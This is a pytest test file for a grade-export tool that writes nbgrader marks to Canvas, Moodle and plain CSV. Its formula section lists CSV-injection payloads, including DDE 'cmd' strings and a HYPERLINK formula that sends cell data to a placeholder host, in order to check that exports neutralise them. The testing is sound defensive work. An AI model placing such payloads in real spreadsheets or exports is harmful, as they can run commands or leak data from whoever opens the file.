import csv
import io
import math
import os
import sys
import tempfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cvgrade.export import ExportError, Mark, export, read_marks
from cvgrade.sheets import neutral, write_table

SIGNS = ("=", "+", "-", "@", "\t", "\r")
CLASS = [
    Mark("jdoe", 7.5, 8, "Doe, Jane", "jane@example.edu", number="12345", sid="s1", login="jdoe"),
    Mark("aoberg", 8, 8, 'Öberg "Ås", Åsa', "asa@example.edu", number="222"),
    Mark("wu_lin_333", 0, 8, "吳琳", "lin@example.edu"),
    Mark("ghost", None, 8, "Ghost", "ghost@example.edu", number="444"),
]
CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section,Warm up (9),mp1 face masks (55),Final Score
,,,,,Manual Posting,,
    Points Possible,,,,,5,8,(read only)
"Öberg ""Ås"", Åsa",222,s2,aoberg,"A, B",5,,99
"Doe, Jane",12345,s1,jdoe,A,3,,88
吳琳,333,s3,wu,A,3,,77
"Student, Test",999,,,A,,,0
"""
MOODLE = """Identifier,Full name,Email address,Status,Grade,Maximum grade,Grade can be changed,\
Last modified (submission),Last modified (grade),Feedback comments
Participant 333,吳琳,lin@example.edu,Submitted,,"8,00",Yes,"Monday, 2 March 2026, 9:00 AM",-,
Participant 12345,Jane Doe,jane@example.edu,Submitted,,"8,00",Yes,-,-,
Participant 7,Nobody,no@example.edu,No submission,,"8,00",Yes,-,-,
"""


def rows(text):
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_canvas_without_a_template():
    done = export("mp1_face_masks", CLASS, "canvas")
    assert rows(done.text) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "mp1_face_masks"],
        ["    Points Possible", "", "", "", "", "8"],
        ["Doe, Jane", "12345", "s1", "jdoe", "", "7.5"],
        ['Öberg "Ås", Åsa', "222", "", "aoberg", "", "8"],
        ["吳琳", "333", "", "wu_lin_333", "", "0"],
        ["Ghost", "444", "", "ghost", "", ""],
    ]
    assert done.left_out == {"ghost": "nothing was handed in"}


def test_canvas_with_its_own_export(tmp_path):
    template = tmp_path / "canvas.csv"
    template.write_text(CANVAS, encoding="utf-8-sig")
    done = export("mp1_face_masks", CLASS, "canvas", tmp_path / "out" / "marks.csv", template)
    text = done.path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")
    assert rows(text) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "mp1 face masks (55)"],
        ["    Points Possible", "", "", "", "", "8"],
        ['Öberg "Ås", Åsa', "222", "s2", "aoberg", "A, B", "8"],
        ["Doe, Jane", "12345", "s1", "jdoe", "A", "7.5"],
        ["吳琳", "333", "s3", "wu", "A", "0"],
        ["Student, Test", "999", "", "", "A", ""],
    ]
    assert done.written == ["jdoe", "aoberg", "wu_lin_333"]
    assert not done.notes


def test_moodle_with_its_worksheet_keeps_its_columns_and_its_decimal_comma(tmp_path):
    template = tmp_path / "moodle.csv"
    template.write_text(MOODLE, encoding="utf-8")
    done = export("mp1", CLASS, "moodle", template=template)
    table = rows(done.text)
    before = rows(MOODLE)
    assert table[0] == before[0]
    assert [row[4] for row in table[1:]] == ["0", "7,5", ""]
    assert [[*row[:4], *row[5:]] for row in table] == [[*row[:4], *row[5:]] for row in before]
    assert done.left_out["aoberg"] == "the template has no line for this student"


def test_moodle_without_a_worksheet_has_the_columns_that_its_import_asks_for():
    done = export("mp1", CLASS, "moodle")
    table = rows(done.text)
    assert {"Identifier", "Grade", "Last modified (grade)"} <= set(table[0])
    assert [row[0] for row in table[1:]] == [
        "Participant 12345",
        "Participant 222",
        "Participant 333",
        "Participant 444",
    ]
    unknown = export("mp1", [Mark("x", 1, 2)], "moodle")
    assert "pass the worksheet" in unknown.left_out["x"]


def test_a_localised_worksheet_needs_the_columns_name(tmp_path):
    template = tmp_path / "moodle.csv"
    template.write_text("Kennung,Name,Bewertung\nTeilnehmer/in 12345,Jane Doe,\n", encoding="utf-8")
    with pytest.raises(ExportError, match=r"no column 'Grade'.*'Bewertung'"):
        export("mp1", CLASS, "moodle", template=template)
    done = export("mp1", CLASS, "moodle", template=template, column="Bewertung")
    assert rows(done.text)[1] == ["Teilnehmer/in 12345", "Jane Doe", "7.5"]


def test_the_plain_table_has_every_question():
    marks = [
        Mark("a", 3, 8, questions={"q1": 1.0, "q2": 2.0}, submitted="2026-03-04 10:15:00"),
        Mark("b", 1.25, 8),
    ]
    assert rows(export("mp1", marks).text) == [
        ["student_id", "name", "email", "assignment", "submitted", "score", "max_score", "q1", "q2"],
        ["a", "", "", "mp1", "2026-03-04 10:15:00", "3", "8", "1", "2"],
        ["b", "", "", "mp1", "", "1.25", "8", "", ""],
    ]


@pytest.mark.parametrize("score", [math.nan, math.inf, -1, True])
def test_a_forged_score_is_never_published(score):
    done = export("mp1", [Mark("a", score, 8)], "canvas")
    assert rows(done.text)[2][5] == ""
    assert "is no mark" in done.left_out["a"]


def test_a_mark_that_waits_for_a_person_is_left_out_and_said():
    done = export("mp1", [Mark("a", 5, 8, waiting=True)], "canvas")
    assert rows(done.text)[2][5] == ""
    assert done.left_out == {"a": "a part of it is not marked yet"}


def test_points_that_differ_are_said_and_not_scaled(tmp_path):
    template = tmp_path / "canvas.csv"
    template.write_text(CANVAS.replace(",5,8,(read", ",5,100,(read"), encoding="utf-8")
    done = export("mp1_face_masks", CLASS, "canvas", template=template)
    assert "out of 100 in the template, the assignment out of 8" in done.notes[0]


@pytest.mark.parametrize(
    ("template", "to", "message"),
    [
        ("a,b\n1,2\n", "canvas", "not Canvas's gradebook"),
        ("Student,ID,mp1 (1),mp1 (2)\nx,1,,\n", "canvas", "several columns"),
        ("", "canvas", "empty"),
        ("a,b\n", "csv", "takes no template"),
    ],
)
def test_a_template_that_is_not_the_systems_is_refused(tmp_path, template, to, message):
    path = tmp_path / "t.csv"
    path.write_text(template, encoding="utf-8")
    with pytest.raises(ExportError, match=message):
        export("mp1", CLASS, to, tmp_path / "out.csv", path)
    assert not (tmp_path / "out.csv").exists()


# Formulas -----------------------------------------------------------------------------------------

ATTACKS = [
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "\ufeff=1+1", '=HYPERLINK("http://x/?"&A1,"ok")',
    "|calc", "%0A=1",
    "a;=1+1", "x\r\n=1+1", '",=1+1', "'=1+1",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("to", ["canvas", "moodle", "csv"])
def test_no_cell_is_a_formula_and_no_name_is_lost(attack, to):
    hostile = Mark(attack, 1, 8, attack, attack, attack, attack, attack, attack, attack, {attack: 1})
    table = rows(export(attack, [hostile], to).text)
    assert {len(row) for row in table} == {len(table[0])}
    for row in table:
        for value in row:
            bare = value.lstrip(" \ufeff")
            assert not bare.startswith(SIGNS) or bare == "-"
    assert any(attack.replace("\0", "") in value for row in table for value in row)


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
def test_any_text_survives_csv_and_is_no_formula_in_a_workbook(text):
    safe = neutral(text)
    assert rows(write_table([[text, "next"]]))[0] == [safe, "next"]
    assert safe.removeprefix("'") == text.replace("\0", "").removeprefix("'")
    sheet = openpyxl.Workbook().active
    printable = "".join(letter for letter in safe if letter.isprintable())
    sheet.append([printable])
    assert sheet["A1"].data_type != "f"


@given(st.text(max_size=20))
def test_a_template_with_any_names_comes_back_whole(name):
    name = name.replace("\0", "").encode("utf-8", "replace").decode()
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "t.csv")
        table = write_table([["Student", "ID", "Section", "mp1 (1)"], [name, "5", name, ""]])
        path.write_text(table, encoding="utf-8", newline="")
        done = export("mp1", [Mark("a_5", 3, 8)], "canvas", template=path)
    row = rows(done.text)[-1]
    assert row[1] == "5"
    assert row[5] == "3"
    assert row[0].removeprefix("'").removeprefix("'") == name.removeprefix("'").removeprefix("'")


def test_a_workbook_read_back_has_the_same_cells(tmp_path):
    table = rows(export("mp1", CLASS, "canvas").text)
    book = openpyxl.Workbook()
    for row in table:
        book.active.append([value or None for value in row])
    book.save(tmp_path / "marks.xlsx")
    back = openpyxl.load_workbook(tmp_path / "marks.xlsx").active
    assert [[value or "" for value in row] for row in back.iter_rows(values_only=True)] == table


# The gradebook ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A course folder with nbgrader's gradebook."""
    from nbgrader.api import Gradebook

    folder = tmp_path_factory.mktemp("course")
    with pytest.MonkeyPatch.context() as patch:
        # nbgrader stamps a new gradebook with the command `alembic`, which stands beside this Python.
        patch.setenv("PATH", os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]]))
        with Gradebook(f"sqlite:///{folder / 'gradebook.db'}", "") as gradebook:
            gradebook.add_assignment("hw")
            gradebook.add_notebook("hw", "hw")
            gradebook.add_grade_cell("q1_test", "hw", "hw", max_score=5, cell_type="code")
            for student in ("amara", "bjorn"):
                gradebook.add_student(student, first_name="A", last_name="=B")
            gradebook.add_submission("hw", "amara", timestamp="2026-03-04 10:15:00 UTC")
            grade = gradebook.find_grade("q1_test", "hw", "hw", "amara")
            grade.auto_score, grade.needs_manual_grade = 4, False
            gradebook.db.commit()
    return folder


@pytest.mark.slow
def test_marks_come_from_nbgraders_gradebook(graded):
    url = f"sqlite:///{graded / 'gradebook.db'}"
    marks = read_marks(url, "hw")
    assert [(mark.student, mark.score, mark.max_score, mark.questions) for mark in marks] == [
        ("amara", 4, 5, {"q1_test": 4}),
        ("bjorn", None, 5, {}),
    ]
    table = rows(export("hw", url, "csv").text)
    assert table[1][:7] == ["amara", "'=B, A", "", "hw", "2026-03-04 10:15:00", "4", "5"]
    with pytest.raises(ExportError, match="no assignment 'other'"):
        read_marks(url, "other")


@pytest.mark.slow
def test_the_command_writes_and_exits_for_scripts(graded, tmp_path, capsys):
    import argparse

    from cvgrade.export import add_arguments, run

    parser = argparse.ArgumentParser()
    parser.add_argument("--course", type=Path)
    add_arguments(parser)
    args = ["hw", "--out", str(tmp_path / "out.csv"), "--to", "canvas", "--course"]
    assert run(parser.parse_args([*args, str(tmp_path)])) == 1
    assert "grade first" in capsys.readouterr().err
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id,name,canvas_id\namara,Amara B,77\n", encoding="utf-8")
    assert run(parser.parse_args([*args, str(graded), "--roster", str(roster)])) == 3
    assert "left out: bjorn: nothing was handed in" in capsys.readouterr().out
    assert rows((tmp_path / "out.csv").read_text(encoding="utf-8"))[2] == [
        "Amara B",
        "77",
        "",
        "amara",
        "",
        "4",
    ]
